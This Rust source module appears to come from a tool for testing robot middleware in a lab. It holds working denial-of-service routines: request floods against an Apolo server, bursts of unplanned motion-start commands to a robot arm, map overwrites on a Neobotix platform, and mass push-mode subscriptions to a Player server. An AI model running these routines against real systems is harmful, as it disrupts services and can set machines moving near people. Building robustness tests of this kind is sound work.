//! Clients of the old protocols.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use dragoman_bridge::player::wire::player::{DEVICES, MODE, PUSH};

use crate::attacker::Attack;
use crate::common::ArmClient;
use crate::common::apolo::{ApoloClient, request};
use crate::common::neobotix::{GET_MAP, NeobotixClient, SET_MAP, texts};
use crate::common::player::{PlayerClient, SERVER};

/// Time between two rounds through all connections.
const TURN: Duration = Duration::from_millis(2);

/// Clients that send as many questions as the server accepts, and read no answers.
pub(super) fn apolo_clients_without_reading(attack: &mut Attack) {
    let question = request(b'G', "", &["pieza"], &[]);
    let questions = question.repeat(100);
    let clients = (0..attack.means.count).map(|_| {
        let client = ApoloClient::new(attack.means.target);
        client.stream.set_nonblocking(true).unwrap();
        (client, 0)
    });
    let mut clients: Vec<_> = clients.collect();
    attack.is_complete();
    while attack.goes_on() {
        for (client, place) in &mut clients {
            // The rest of an incomplete question is sent in the next round.
            let written = client.stream.write(&questions[*place % question.len()..]).unwrap_or(0);
            *place += written;
            attack.sent((written / question.len()) as u64);
        }
        std::thread::sleep(TURN);
    }
}

/// Commands that start a motion without a planned one.
pub(super) fn datagrams(attack: &mut Attack) {
    const BURST: u32 = 300;
    let client = ArmClient::new(attack.means.target);
    attack.is_complete();
    while attack.goes_on() {
        // Bursts differ in length: an exact repetition may miss a period of the lab.
        let burst = attack.random.rand_range(1..2 * BURST);
        for _ in 0..burst {
            client.send("BG", [0.0; 7], 0);
        }
        attack.sent(burst.into());
    }
}

/// Maps of `bytes` each, from one client after another; in the end the platform has its own map again.
pub(super) fn maps(attack: &mut Attack) {
    const HEAD: &str = "<map Version=\"1.0\"><layer index=\"0\">";
    const TAIL: &str = "</layer></map>";
    let mut map = HEAD.to_owned();
    while map.len() + 100 < attack.means.bytes {
        let [x, y] = [0; 2].map(|_| attack.random.rand_range(0..20_000));
        map.push_str(&format!(
            "<line><point x=\"{x}\" y=\"{y}\"/><point x=\"{}\" y=\"{y}\"/></line>",
            x + 500
        ));
    }
    map.push_str(TAIL);
    let own = NeobotixClient::next(attack.means.target).ask(&[GET_MAP]).text_after_byte();
    for number in 0..attack.means.count {
        if !attack.goes_on() {
            break;
        }
        let mut client = NeobotixClient::next(attack.means.target);
        client.order(&texts(SET_MAP, &[&format!("map_{number}"), &map]));
        attack.sent(1);
    }
    attack.is_complete();
    // The last map is still to be read.
    attack.stay();
    NeobotixClient::next(attack.means.target).order(&texts(SET_MAP, &["own", &own]));
}

/// Clients that open every device in push mode, and read all that comes.
pub(super) fn player_subscribers(attack: &mut Attack) {
    let mut streams: Vec<TcpStream> = Vec::new();
    let mut bytes = vec![0; 1 << 20];
    for _ in 0..attack.means.count {
        streams.push(subscribed_to_everything(attack));
        streams.iter_mut().for_each(|stream| drain(stream, &mut bytes));
        attack.sent(1);
    }
    attack.is_complete();
    while attack.goes_on() {
        streams.iter_mut().for_each(|stream| drain(stream, &mut bytes));
        std::thread::sleep(TURN);
    }
}

fn subscribed_to_everything(attack: &Attack) -> TcpStream {
    let mut client = PlayerClient::connect(attack.means.target);
    let list = client.granted(SERVER, DEVICES.subtype, &());
    for address in DEVICES.answer(&list).unwrap() {
        client.subscribe(address.device);
    }
    client.ask(SERVER, MODE.subtype, &PUSH);
    client.stream.set_nonblocking(true).unwrap();
    client.stream
}

/// Reads what is there.
fn drain(stream: &mut TcpStream, bytes: &mut [u8]) {
    while stream.read(bytes).is_ok_and(|length| length == bytes.len()) {}
}
